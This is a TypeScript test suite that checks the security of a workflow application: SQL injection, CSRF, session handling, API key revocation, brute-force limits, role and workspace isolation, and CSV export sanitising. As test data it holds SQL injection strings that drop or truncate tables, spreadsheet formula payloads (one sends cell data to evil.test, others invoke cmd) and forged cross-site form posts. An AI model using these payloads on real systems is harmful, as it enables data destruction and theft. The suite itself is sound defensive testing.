import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { saveWorkspaceCatalog } from '@accord/db';
import { testBackends } from '@accord/db/testing';
import { CATALOG_TEMPLATES, defaultWorkflow } from '@accord/engine';
import { ROLE_POLICY } from '@accord/access';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_PASSWORD } from '@accord/api/seed';
import {
  createApiKey,
  inputKeys,
  openAccord,
  procedures,
  publishWorkflow,
  ROLES,
  sessionCookieOf,
  sessionSetCookie,
  type Accord,
} from './support/accord';
import { captureSql } from './support/sql-capture';
import { rowCounts } from './support/snapshot';

/** A marker no SQL statement of ours contains; it may only ever travel as a parameter. */
const MARK = 'zqinjmark';
const INJECTIONS = [
  `'); drop table users; -- ${MARK}`,
  `${MARK}' or '1'='1`,
  `${MARK}"; delete from audit_events; --`,
  `$1 ${MARK} $$ ; select pg_sleep(10); $$`,
  `${MARK}\\'; truncate workflows cascade; --`,
];
const execFileAsync = promisify(execFile);
const repoRoot = fileURLToPath(new URL('../../', import.meta.url));
const PUBLIC_PROCEDURES = new Set(['system.info', 'auth.signIn', 'auth.signOut', 'auth.me']);
const POLICY = ROLE_POLICY as Record<string, readonly string[]>;

describe.each(testBackends())('security on $kind', ({ open }) => {
  let accord: Accord;
  let published: Awaited<ReturnType<typeof publishWorkflow>>;
  beforeAll(async () => {
    accord = await openAccord(open);
    published = await publishWorkflow(accord, 'Security');
  });
  afterAll(() => accord?.close());

  const evaluate = (slug: string, key: string, body: unknown) =>
    accord.app.inject({
      method: 'POST',
      url: `/v1/workflows/${encodeURIComponent(slug)}/evaluate`,
      headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
      payload: JSON.stringify(body),
    });

  describe('SQL injection', () => {
    it('sends user text only as query parameters: SQL in names, comments, notes, filters, sign-in and lead fields changes nothing', async () => {
      const { key } = await createApiKey(accord, 'sql');
      const capture = captureSql();
      const { trpc, cookie } = accord;
      try {
        for (const payload of INJECTIONS) {
          const created = await trpc(cookie.marketing, 'workflows.create', {
            name: payload,
            from: 'default',
          });
          expect(created.status).toBe(200);
          const id = (created.data as { id: string }).id;
          expect(
            (await trpc(cookie.sales, 'workflows.rename', { workflowId: id, name: payload }))
              .status,
          ).toBe(200);
          const document = defaultWorkflow();
          document.nodes[0]!.label = payload;
          expect(
            (
              await trpc(cookie.marketing, 'draft.save', {
                workflowId: id,
                baseRevision: 1,
                document,
              })
            ).status,
          ).toBe(200);
          expect(
            (
              await trpc(cookie.sales, 'comments.add', {
                workflowId: id,
                nodeId: payload,
                body: payload,
              })
            ).status,
          ).toBe(200);
          const version = await trpc(cookie.marketing, 'versions.propose', {
            workflowId: id,
            changeNote: payload,
          });
          expect(version.status).toBe(200);
          const versionId = (version.data as { id: string }).id;
          expect(
            (await trpc(cookie.sales, 'versions.reject', { versionId, comment: payload })).status,
          ).toBe(200);
          expect((await trpc(cookie.admin, 'apiKeys.create', { name: payload })).status).toBe(200);
          expect((await trpc(cookie.auditor, 'audit.list', { action: payload })).status).toBe(200);
          expect(
            (await trpc(cookie.auditor, 'audit.export', { action: payload, format: 'csv' })).status,
          ).toBe(200);
          expect(
            (await trpc(cookie.auditor, 'workflows.get', { workflowId: payload })).status,
          ).toBe(400);
          expect((await accord.signIn(`${MARK}@acme.test`, payload)).status).toBe(401);
          const lead = {
            id: payload,
            attributes: {
              first_name: payload,
              job_title: payload,
              email: `${MARK}@acme.test`,
              country: payload,
            },
            events: [{ type: 'page_view', at: '2026-11-01T00:00:00Z', props: { path: payload } }],
          };
          expect((await evaluate(published.slug, key, { lead })).statusCode).toBe(200);
          expect((await evaluate(payload, key, { lead })).statusCode).toBe(404);
        }
      } finally {
        capture.stop();
      }
      const inSql = capture.queries.filter((q) => q.sql.includes(MARK));
      expect(inSql.map((q) => q.sql)).toEqual([]);
      // The capture saw the payloads, as parameters: proof that it watched the right place.
      const asParams = capture.queries.filter((q) =>
        q.params.some((p) => JSON.stringify(p)?.includes(MARK)),
      );
      expect(asParams.length).toBeGreaterThan(INJECTIONS.length * 8);
      // The text is stored as written and every table is still there.
      const names = await accord.database.db.selectFrom('workflows').select('name').execute();
      for (const payload of INJECTIONS) expect(names.map((n) => n.name)).toContain(payload);
      const counts = await rowCounts(accord.database.db);
      expect(counts.users).toBeGreaterThanOrEqual(5);
      expect(await accord.as.auditor.audit.verify()).toMatchObject({ ok: true });
    });
  });

  describe('body size', () => {
    it('refuses tRPC and REST bodies over 10 MB with 413 and changes nothing', async () => {
      const before = await rowCounts(accord.database.db, ['sessions']);
      const huge = 'x'.repeat(10 * 1024 * 1024 + 1);
      const trpc = await accord.app.inject({
        method: 'POST',
        url: '/trpc/comments.add',
        headers: { 'content-type': 'application/json', cookie: accord.cookie.marketing },
        payload: JSON.stringify({ workflowId: published.workflowId, body: huge }),
      });
      expect(trpc.statusCode).toBe(413);
      const { key } = await createApiKey(accord, 'size');
      const rest = await evaluate(published.slug, key, {
        lead: { id: 'x', attributes: { note: huge }, events: [] },
      });
      expect(rest.statusCode).toBe(413);
      expect(rest.json()).toMatchObject({ error: { code: 'PAYLOAD_TOO_LARGE' } });
      const after = await rowCounts(accord.database.db, ['sessions']);
      expect({ ...after, api_keys: before.api_keys, audit_events: before.audit_events }).toEqual(
        before,
      );
    });

    it('refuses a workflow document over its own limit and keeps the draft', async () => {
      const draft = await accord.as.marketing.draft.get({ workflowId: published.workflowId });
      const document = defaultWorkflow();
      document.nodes[0]!.description = 'x'.repeat(3 * 1024 * 1024);
      const res = await accord.trpc(accord.cookie.marketing, 'draft.save', {
        workflowId: published.workflowId,
        baseRevision: draft.revision,
        document,
      });
      expect(res.status).toBe(413);
      expect(res.code).toBe('PAYLOAD_TOO_LARGE');
      const after = await accord.as.marketing.draft.get({ workflowId: published.workflowId });
      expect(after.revision).toBe(draft.revision);
    });
  });

  describe('API keys', () => {
    it('stops a revoked key on the very next request, even one already cached', async () => {
      const { id, key } = await createApiKey(accord, 'to-revoke');
      const lead = { lead: { id: 'L', attributes: {}, events: [] } };
      expect((await evaluate(published.slug, key, lead)).statusCode).toBe(200);
      expect((await evaluate(published.slug, key, lead)).statusCode).toBe(200);
      const revoked = await accord.trpc(accord.cookie.admin, 'apiKeys.revoke', { id });
      expect(revoked.status).toBe(200);
      const after = await evaluate(published.slug, key, lead);
      expect(after.statusCode).toBe(401);
      expect(after.json()).toMatchObject({ error: { code: 'UNAUTHORIZED' } });
    });

    it('lets no request that starts after the revoke answer 200 while traffic is running', async () => {
      const { id, key } = await createApiKey(accord, 'busy');
      const lead = { lead: { id: 'L', attributes: { job_title: 'VP' }, events: [] } };
      let revokedAt = Infinity;
      const late: number[] = [];
      let stop = false;
      const traffic = (async () => {
        while (!stop) {
          const started = performance.now();
          const res = await evaluate(published.slug, key, lead);
          if (started > revokedAt && res.statusCode === 200) late.push(started);
          // Injected requests answered from memory (a revoked key) settle in microtasks alone:
          // without a turn of the event loop the timers below would never run.
          await new Promise((r) => setImmediate(r));
        }
      })();
      await new Promise((r) => setTimeout(r, 100));
      expect((await accord.trpc(accord.cookie.admin, 'apiKeys.revoke', { id })).status).toBe(200);
      revokedAt = performance.now();
      await new Promise((r) => setTimeout(r, 200));
      stop = true;
      await traffic;
      expect(late).toEqual([]);
    });

    it("#18: answers 404 for a key of another workspace, as for a missing workflow, and never reveals that workspace's data", async () => {
      const other = await accord.database.db
        .insertInto('workspaces')
        .values({ slug: `other-${Date.now()}`, name: 'Other' })
        .returning('id')
        .executeTakeFirstOrThrow();
      const foreignKey = `acc_foreign_${Date.now()}`;
      const { hashToken } = await import('@accord/api/auth/session');
      await accord.database.db
        .insertInto('api_keys')
        .values({
          workspace_id: other.id,
          name: 'foreign',
          prefix: foreignKey.slice(0, 10),
          key_hash: hashToken(foreignKey),
          created_by: null,
          revoked_at: null,
          last_used_at: null,
        })
        .execute();
      const res = await evaluate(published.slug, foreignKey, {
        lead: { id: 'L', attributes: {}, events: [] },
      });
      expect(res.statusCode).toBe(404);
      expect(res.json().error.message).toBe(`No workflow "${published.slug}".`);
      expect(res.body).not.toContain('stage');
    });
  });

  describe('sessions', () => {
    it('never adopts a session token the client brings: a fresh token on every sign-in', async () => {
      const planted = 'accord_session=attacker-chosen-token-0123456789abcdefghijklmnop';
      const res = await accord.signIn('marketing@acme.test', DEMO_PASSWORD, { cookie: planted });
      expect(res.status).toBe(200);
      const issued = sessionCookieOf(res)!;
      expect(issued).not.toBe(planted);
      expect((await accord.trpc(planted, 'auth.me')).data).toBeNull();
      expect((await accord.trpc(issued, 'auth.me')).data).toMatchObject({ role: 'marketing' });

      const tokens = new Set<string>();
      for (let i = 0; i < 8; i++)
        tokens.add(sessionCookieOf(await accord.signIn('sales@acme.test', DEMO_PASSWORD))!);
      expect(tokens.size).toBe(8);
      for (const token of tokens) expect(token.split('=')[1]!.length).toBeGreaterThanOrEqual(43);
    });

    it('ends the session an attacker planted when the victim signs in over it', async () => {
      const attacker = sessionCookieOf(await accord.signIn('ops@acme.test', DEMO_PASSWORD))!;
      const victim = sessionCookieOf(
        await accord.signIn('marketing@acme.test', DEMO_PASSWORD, { cookie: attacker }),
      )!;
      expect(victim).not.toBe(attacker);
      expect((await accord.trpc(attacker, 'auth.me')).data).toBeNull();
    });

    it('ends sessions on sign-out and when an admin disables the account', async () => {
      const token = sessionCookieOf(await accord.signIn('sales@acme.test', DEMO_PASSWORD))!;
      expect((await accord.trpc(token, 'auth.signOut', {})).status).toBe(200);
      expect((await accord.trpc(token, 'auth.me')).data).toBeNull();

      const created = await accord.as.admin.users.create({
        email: `leaver-${Date.now()}@acme.test`,
        name: 'Leaver',
        role: 'marketing',
        password: 'long-enough-password',
      });
      const leaver = sessionCookieOf(await accord.signIn(created.email, 'long-enough-password'))!;
      expect((await accord.trpc(leaver, 'auth.me')).data).toMatchObject({ role: 'marketing' });
      await accord.as.admin.users.update({ id: created.id, disabled: true });
      expect((await accord.trpc(leaver, 'auth.me')).data).toBeNull();
      expect((await accord.trpc(leaver, 'workflows.list', {})).code).toBe('UNAUTHORIZED');
    });

    it('signs out on a POST without a body, as tRPC clients send an input-less mutation', async () => {
      const token = sessionCookieOf(await accord.signIn('sales@acme.test', DEMO_PASSWORD))!;
      const res = await accord.app.inject({
        method: 'POST',
        url: '/trpc/auth.signOut',
        headers: { cookie: token, 'content-type': 'application/json' },
      });
      expect(res.statusCode, res.body).toBe(200);
      expect((await accord.trpc(token, 'auth.me')).data).toBeNull();
    });

    it('sets the session cookie HttpOnly, SameSite, Path=/ and without Secure over plain HTTP', async () => {
      const line = sessionSetCookie(await accord.signIn('ops@acme.test', DEMO_PASSWORD));
      expect(line).toMatch(/;\s*HttpOnly/i);
      expect(line).toMatch(/;\s*SameSite=(Strict|Lax)/i);
      expect(line).toMatch(/;\s*Path=\/(;|$)/i);
      expect(line).not.toMatch(/;\s*Secure/i);
      expect(line).not.toMatch(/;\s*Domain=/i);
    });

    it('adds Secure when ACCORD_SECURE_COOKIES=true', async () => {
      const secure = await openAccord(open, { ACCORD_SECURE_COOKIES: 'true' });
      try {
        const line = sessionSetCookie(await secure.signIn('ops@acme.test', DEMO_PASSWORD));
        expect(line).toMatch(/;\s*Secure/i);
        expect(line).toMatch(/;\s*HttpOnly/i);
        expect(line).toMatch(/;\s*SameSite=(Strict|Lax)/i);
      } finally {
        await secure.close();
      }
    });
  });

  describe('CSRF', () => {
    const boundary = '----accordcsrf';
    const multipart = (fields: Record<string, string>) =>
      Object.entries(fields)
        .map(
          ([k, v]) =>
            `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`,
        )
        .join('') + `--${boundary}--\r\n`;
    /** What a cross-site HTML form can send without a CORS preflight, with the victim's cookie. */
    const formPosts = (path: string, fields: Record<string, string>) =>
      [
        {
          'content-type': 'application/x-www-form-urlencoded',
          payload: new URLSearchParams(fields).toString(),
        },
        { 'content-type': 'text/plain', payload: JSON.stringify(fields) },
        { 'content-type': `multipart/form-data; boundary=${boundary}`, payload: multipart(fields) },
      ].map(({ payload, ...headers }) => ({ path, headers, payload }));

    function attacks() {
      const id = published.workflowId;
      return [
        ...formPosts('workflows.rename', { workflowId: id, name: 'renamed by a cross-site form' }),
        ...formPosts('apiKeys.create', { name: 'stolen' }),
        ...formPosts('users.create', {
          email: 'csrf@evil.test',
          name: 'CSRF',
          role: 'admin',
          password: 'long-enough-password',
        }),
        ...formPosts('auth.signOut', {}),
      ];
    }

    it('changes nothing on a cross-site form post (urlencoded, text/plain, multipart) even with the session cookie', async () => {
      const before = await rowCounts(accord.database.db);
      const name = (await accord.as.admin.workflows.get({ workflowId: published.workflowId })).name;
      for (const attack of attacks()) {
        await accord.app.inject({
          method: 'POST',
          url: `/trpc/${attack.path}`,
          headers: { ...attack.headers, cookie: accord.cookie.admin, origin: 'https://evil.test' },
          payload: attack.payload,
        });
      }
      expect(await rowCounts(accord.database.db)).toEqual(before);
      expect((await accord.as.admin.workflows.get({ workflowId: published.workflowId })).name).toBe(
        name,
      );
      // auth.signOut by form did not end the session either.
      expect((await accord.trpc(accord.cookie.admin, 'auth.me')).data).toMatchObject({
        role: 'admin',
      });
    });

    it('refuses every cross-site form post with a client error, not a server error', async () => {
      const answers: string[] = [];
      for (const attack of attacks()) {
        const res = await accord.app.inject({
          method: 'POST',
          url: `/trpc/${attack.path}`,
          headers: { ...attack.headers, cookie: accord.cookie.admin, origin: 'https://evil.test' },
          payload: attack.payload,
        });
        if (res.statusCode < 400 || res.statusCode >= 500)
          answers.push(
            `${attack.path} as ${attack.headers['content-type'].split(';')[0]}: ${res.statusCode}`,
          );
      }
      expect(answers).toEqual([]);
    });

    it('#18: guards the route the router decodes: a percent-encoded /trpc path is refused like any other', async () => {
      const before = await rowCounts(accord.database.db);
      const name = (await accord.as.admin.workflows.get({ workflowId: published.workflowId })).name;
      const encoded = [
        '/%74rpc/auth.signOut',
        '/%74%72%70%63/auth.signOut',
        '/trpc/auth%2EsignOut',
      ];
      const attacks = [
        ...encoded.flatMap((url) => formPosts(url, {})),
        ...formPosts('/%74rpc/workflows.rename', {
          workflowId: published.workflowId,
          name: 'renamed by a cross-site form',
        }),
      ];
      const answers: string[] = [];
      for (const attack of attacks) {
        const res = await accord.app.inject({
          method: 'POST',
          url: attack.path,
          headers: { ...attack.headers, cookie: accord.cookie.admin, origin: 'https://evil.test' },
          payload: attack.payload,
        });
        answers.push(
          `${attack.path} as ${attack.headers['content-type'].split(';')[0]}: ${res.statusCode}`,
        );
      }
      expect(answers).toEqual(
        attacks.map((a) => `${a.path} as ${a.headers['content-type'].split(';')[0]}: 415`),
      );
      expect((await accord.trpc(accord.cookie.admin, 'auth.me')).data).toMatchObject({
        role: 'admin',
      });
      expect((await accord.as.admin.workflows.get({ workflowId: published.workflowId })).name).toBe(
        name,
      );
      expect(await rowCounts(accord.database.db)).toEqual(before);
    });

    it('imports no lead set from a cross-site form post to the upload route, even with the session cookie', async () => {
      const before = await rowCounts(accord.database.db);
      const csv = 'id,first_name\nL1,Ann\n';
      const accepted: string[] = [];
      for (const type of [
        'text/plain',
        'application/x-www-form-urlencoded',
        `multipart/form-data; boundary=${boundary}`,
      ]) {
        const res = await accord.app.inject({
          method: 'POST',
          url: `/api/lead-sets/import?name=csrf&format=csv&mapping=${encodeURIComponent('{"columns":{"id":{"kind":"id"}}}')}`,
          headers: { 'content-type': type, cookie: accord.cookie.ops, origin: 'https://evil.test' },
          payload: type.startsWith('multipart') ? multipart({ file: csv }) : csv,
        });
        if (res.statusCode < 400) accepted.push(`${type.split(';')[0]}: ${res.statusCode}`);
      }
      expect(accepted).toEqual([]);
      expect(await rowCounts(accord.database.db)).toEqual(before);
    });

    it('refuses mutations over GET (a cross-site link or image) and grants no CORS', async () => {
      const get = await accord.app.inject({
        method: 'GET',
        url: `/trpc/auth.signOut`,
        headers: { cookie: accord.cookie.admin },
      });
      expect(get.statusCode).toBe(405);
      expect((await accord.trpc(accord.cookie.admin, 'auth.me')).data).toMatchObject({
        role: 'admin',
      });
      const preflight = await accord.app.inject({
        method: 'OPTIONS',
        url: '/trpc/workflows.rename',
        headers: {
          origin: 'https://evil.test',
          'access-control-request-method': 'POST',
          'access-control-request-headers': 'content-type',
        },
      });
      expect(preflight.headers['access-control-allow-origin']).toBeUndefined();
      expect(preflight.headers['access-control-allow-credentials']).toBeUndefined();
    });
  });

  describe('brute force', () => {
    it('refuses the sixth failed sign-in in a row, even with the right password', async () => {
      for (let i = 0; i < 5; i++)
        expect((await accord.signIn('auditor@acme.test', `wrong-${i}`)).status).toBe(401);
      const locked = await accord.signIn('auditor@acme.test', DEMO_PASSWORD);
      expect(locked.status).toBe(429);
      expect(locked.code).toBe('TOO_MANY_REQUESTS');
    });

    it('checks at most five passwords of a parallel burst of 30 guesses', async () => {
      const email = `burst-${Date.now()}@acme.test`;
      await accord.as.admin.users.create({
        email,
        name: 'Burst',
        role: 'sales',
        password: 'long-enough-password',
      });
      const answers = await Promise.all(
        Array.from({ length: 30 }, (_, i) => accord.signIn(email, `guess-${i}`)),
      );
      const checked = answers.filter((a) => a.status === 401).length;
      const refused = answers.filter((a) => a.status === 429).length;
      expect({ checked, refused }).toEqual({ checked: 5, refused: 25 });
    });
  });

  describe('role matrix', () => {
    it('declares roles for every procedure that is not public', () => {
      const undeclared = procedures()
        .map((p) => p.path)
        .filter((path) => !PUBLIC_PROCEDURES.has(path) && !POLICY[path]);
      expect(undeclared).toEqual([]);
    });

    it('enforces ROLE_POLICY over HTTP for every procedure and role, and refuses the signed-out', async () => {
      const wrong: string[] = [];
      for (const { path } of procedures()) {
        if (PUBLIC_PROCEDURES.has(path)) continue;
        const allowed = POLICY[path] ?? [];
        const anonymous = await accord.trpc(null, path, {});
        if (anonymous.code !== 'UNAUTHORIZED')
          wrong.push(`${path} signed out: ${anonymous.code ?? anonymous.status}`);
        for (const role of ROLES) {
          const res = await accord.trpc(accord.cookie[role], path, {});
          const denied = res.code === 'FORBIDDEN';
          if (denied === allowed.includes(role))
            wrong.push(
              `${path} as ${role}: ${res.code ?? res.status} (policy: ${allowed.join(', ')})`,
            );
        }
      }
      expect(wrong).toEqual([]);
    });

    it('lets an auditor change nothing: every mutation is FORBIDDEN and no row changes', async () => {
      const before = await rowCounts(accord.database.db, ['sessions']);
      const allowed: string[] = [];
      for (const { path, type } of procedures()) {
        if (type !== 'mutation' || PUBLIC_PROCEDURES.has(path)) continue;
        const res = await accord.trpc(accord.cookie.auditor, path, {
          workflowId: published.workflowId,
          versionId: published.versionId,
          name: 'auditor was here',
          body: 'auditor was here',
          changeNote: 'auditor was here',
          baseRevision: 1,
          document: defaultWorkflow(),
        });
        if (res.code !== 'FORBIDDEN') allowed.push(`${path}: ${res.code ?? res.status}`);
      }
      expect(allowed).toEqual([]);
      expect(await rowCounts(accord.database.db, ['sessions'])).toEqual(before);
    });
  });

  describe('#18: workspaces', () => {
    const SECRET = 'zetasecret';
    /** Another workspace with one of everything, made through the product as its own admin. */
    async function otherWorkspace() {
      const { db } = accord.database;
      const workspace = await db
        .insertInto('workspaces')
        .values({ slug: `zeta-${Date.now()}`, name: `Zeta ${SECRET}` })
        .returning('id')
        .executeTakeFirstOrThrow();
      // Its own catalog, from the template the demo started from (the default workflow reads it).
      await db.transaction().execute((trx) =>
        saveWorkspaceCatalog(trx, {
          workspaceId: workspace.id,
          baseRevision: 0,
          catalog: CATALOG_TEMPLATES.b2b.catalog,
          userId: null,
        }),
      );
      const admin = await db
        .insertInto('users')
        .values({
          workspace_id: workspace.id,
          email: `boss-${Date.now()}@zeta.test`,
          name: `Boss ${SECRET}`,
          role: 'admin',
          password_hash: (
            await db.selectFrom('users').select('password_hash').executeTakeFirstOrThrow()
          ).password_hash,
          disabled_at: null,
        })
        .returning(['id', 'email', 'name', 'role', 'workspace_id'])
        .executeTakeFirstOrThrow();
      const as = accord.callerFor(admin);
      const workflow = await as.workflows.create({ name: `Flow ${SECRET}`, from: 'default' });
      const version = await as.versions.propose({
        workflowId: workflow.id,
        changeNote: `Note ${SECRET}`,
      });
      await as.comments.add({ workflowId: workflow.id, body: `Comment ${SECRET}` });
      const leadSet = await as.leadSets.generate({ name: `Leads ${SECRET}`, count: 20, seed: 1 });
      const key = await as.apiKeys.create({ name: `Key ${SECRET}` });
      return { workspace, admin, workflow, version, leadSet, key };
    }

    it("answers NOT_FOUND for every procedure given another workspace's ids, and names nothing of it", async () => {
      const other = await otherWorkspace();
      const ids = {
        workflowId: other.workflow.id,
        versionId: other.version.id,
        leadSetId: other.leadSet.id,
      };
      const base = {
        ...ids,
        name: 'probe',
        body: 'probe',
        comment: 'probe',
        changeNote: 'probe',
        reason: 'probe',
        baseRevision: 1,
        document: defaultWorkflow(),
        enabled: true,
        from: other.version.id,
        to: other.version.id,
        at: new Date().toISOString(),
        baseline: { kind: 'version', versionId: other.version.id },
        candidate: { kind: 'version', versionId: other.version.id },
        lead: { id: 'L', attributes: {}, events: [] },
      };
      // Filters over one's own workspace may answer an empty page instead.
      const filters = new Set(['audit.list', 'audit.export', 'decisions.list', 'simulations.list']);
      const wrong: string[] = [];
      const before = await rowCounts(accord.database.db, ['sessions']);
      for (const { path } of procedures()) {
        const keys = inputKeys(path);
        const idKey = ['workflowId', 'versionId', 'leadSetId', 'id'].find((k) => keys?.has(k));
        if (!idKey || PUBLIC_PROCEDURES.has(path)) continue;
        const role = (POLICY[path] ?? ['admin'])[0] as (typeof ROLES)[number];
        const input = {
          ...base,
          id: path.startsWith('users.') ? other.admin.id : other.key.id,
        };
        const res = await accord.trpc(accord.cookie[role], path, input);
        const refused = res.code === 'NOT_FOUND' || res.code === 'BAD_REQUEST';
        if (res.body.includes(SECRET))
          wrong.push(`${path}: names the other workspace: ${res.body}`);
        else if (!refused && !(filters.has(path) && res.status === 200))
          wrong.push(`${path} as ${role}: ${res.code ?? res.status} ${res.message ?? ''}`);
      }
      expect(wrong).toEqual([]);
      expect(await rowCounts(accord.database.db, ['sessions'])).toEqual(before);
    });

    it('lets an admin add a user whose email has an account in another workspace, learning nothing of it', async () => {
      const other = await otherWorkspace();
      const res = await accord.trpc(accord.cookie.admin, 'users.create', {
        email: other.admin.email.toUpperCase(),
        name: 'Same address',
        role: 'sales',
        password: 'a-password-of-our-own',
      });
      expect(res.status, res.body).toBe(200);
      expect(res.body).not.toContain(SECRET);
      expect(res.body).not.toContain(other.workspace.id);
      // Both people sign in to their own account, each with their own password.
      const ours = await accord.signIn(other.admin.email, 'a-password-of-our-own');
      expect(ours.data).toMatchObject({
        role: 'sales',
        workspace_id: accord.users.admin.workspace_id,
      });
      const theirs = await accord.signIn(other.admin.email, DEMO_PASSWORD);
      expect(theirs.data).toMatchObject({ role: 'admin', workspace_id: other.workspace.id });
      // In one workspace an email is still one account, whatever its case.
      const again = await accord.trpc(accord.cookie.admin, 'users.create', {
        email: other.admin.email,
        name: 'Twice',
        role: 'sales',
        password: 'a-password-of-our-own',
      });
      expect(again.code).toBe('CONFLICT');
    });
  });

  describe('CSV export', () => {
    const FORMULAS = [
      '=HYPERLINK("http://evil.test/?d="&A1,"Click me")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
    ];

    it('neutralises formula cells (=, +, -, @, tab, CR) in the audit CSV export', async () => {
      const { as } = accord;
      for (const formula of FORMULAS) {
        const user = await as.admin.users.create({
          email: `f${Math.random().toString(36).slice(2, 8)}@acme.test`,
          name: formula,
          role: 'marketing',
          password: 'long-enough-password',
        });
        const caller = accord.callerFor({ ...user, workspace_id: accord.users.admin.workspace_id });
        const wf = await caller.workflows.create({ name: formula, from: 'blank' });
        await caller.comments.add({ workflowId: wf.id, body: formula });
      }
      const exported = await as.auditor.audit.export({ format: 'csv' });
      const rows = parse(exported.text, { relax_column_count: true }) as string[][];
      const cells = rows.flat();
      const dangerous = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
      expect(dangerous).toEqual([]);
      // The formulas are still there, as inert text.
      expect(cells.some((c) => c.startsWith(`'=HYPERLINK`))).toBe(true);
    });
  });
});

describe('CSV export of uploaded leads (accord evaluate)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'accord-csv-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const accord = (...args: string[]) =>
    execFileAsync(process.execPath, [join(repoRoot, 'apps/api/bin/accord.js'), ...args], {
      cwd: repoRoot,
      env: { ...process.env, ACCORD_DATA_DIR: join(dir, 'data'), DATABASE_URL: '' },
    });

  it('neutralises formula cells that came in an uploaded CSV (ids and values) in the results CSV', async () => {
    await accord('migrate');
    await accord('seed');
    const formulas = [
      '=HYPERLINK("http://evil.test/?d="&A1,"Click me")',
      "+1+cmd|' /C calc'!A0",
      '-1+1',
      '@SUM(1+1)',
    ];
    const input = join(dir, 'leads.csv');
    const quote = (v: string) => `"${v.replace(/"/g, '""')}"`;
    writeFileSync(
      input,
      [
        'id,first_name,job_title,company_size',
        ...formulas.map((f) => `${quote(f)},${quote(f)},${quote(f)},12`),
      ]
        .join('\n')
        .concat('\n'),
    );
    const output = join(dir, 'results.csv');
    await accord(
      'evaluate',
      '--workflow',
      'inbound-b2b-qualification',
      '--in',
      input,
      '--out',
      output,
    );
    const rows = parse(readFileSync(output, 'utf8'), { relax_column_count: true }) as string[][];
    expect(rows.length).toBe(formulas.length + 1);
    const dangerous = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(dangerous).toEqual([]);
  }, 120_000);
});
